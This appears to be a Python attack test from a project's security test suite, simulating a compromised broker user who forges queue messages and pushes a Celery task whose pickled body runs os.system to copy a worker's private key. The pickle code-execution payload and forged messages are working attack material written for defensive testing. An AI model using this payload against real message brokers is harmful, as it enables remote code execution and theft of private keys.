"""With the coordinator's user on the broker: ring for what is held or done, and push a message that runs code."""

import base64
import json
import pickle
import secrets
from pathlib import Path

from exconn.contracts import KINDS, Kind, Service, doorbell_bytes, queue_of
from tests.faults.attack.attack import Attack
from tests.faults.attack.company import Company
from tests.faults.attack.hands import Hands
from tests.faults.attack.outcome import Outcome
from tests.faults.attack.setting import A_MINUTE, BOSS, CONNECTOR, LIMIT, THIEF
from tests.support.machine.processes import comes_true

PHONES = 5


class _Runs:
    """What unpickles as a command of the worker's machine."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (self._command,)


def run(company: Company) -> Outcome:
    """The worker's private key is what the code takes."""
    jobs = company.wipe_all(THIEF, company.phones(PHONES))
    company.wait_until_they_rest(jobs)
    queue, stolen = queue_of(Service.ACTIONS, CONNECTOR), company.folder / "stolen"
    thief = Hands(company, "coordinator", "broker")
    for job in (*jobs, "wipe-aaaaaaaaaaaaaaaa"):
        for ring in (1, 2, 3):
            bell = doorbell_bytes(job, Kind.WIPE, service=Service.ACTIONS, connector=CONNECTOR, ring=ring)
            thief.tries("LPUSH", queue, bell)
    thief.tries("LPUSH", queue, _pickled(f"cp {company.folder / 'actions.pem'} {stolen}"))
    comes_true(lambda: thief.tries("LLEN", queue) == 0, A_MINUTE)
    later = company.wipe_all(BOSS, company.phones(1))
    company.wait_until_they_rest(later)
    return company.outcome(allowed=LIMIT + len(later), secrets_out=int(_is_out(stolen)))


def _is_out(stolen: Path) -> bool:
    return stolen.exists() and "PRIVATE KEY" in stolen.read_text(encoding="ascii")


def _pickled(command: str) -> bytes:
    identity = secrets.token_hex(8)
    message = {
        "body": base64.b64encode(pickle.dumps([[_Runs(command)], {}, {}])).decode(),
        "content-type": "application/x-python-serialize",
        "content-encoding": "binary",
        "headers": {"lang": "py", "task": KINDS[Kind.WIPE].task, "id": identity, "root_id": identity, "retries": 0},
        "properties": {
            "body_encoding": "base64",
            "correlation_id": identity,
            "delivery_tag": identity,
            "delivery_mode": 2,
            "delivery_info": {"exchange": "", "routing_key": queue_of(Service.ACTIONS, CONNECTOR)},
            "priority": 0,
        },
    }
    return json.dumps(message).encode()


ATTACK = Attack(
    name="fallen-broker",
    title="the coordinator's user on the broker forges doorbells, and a task that runs code",
    defence="messages-checked-before-celery",
    run=run,
)
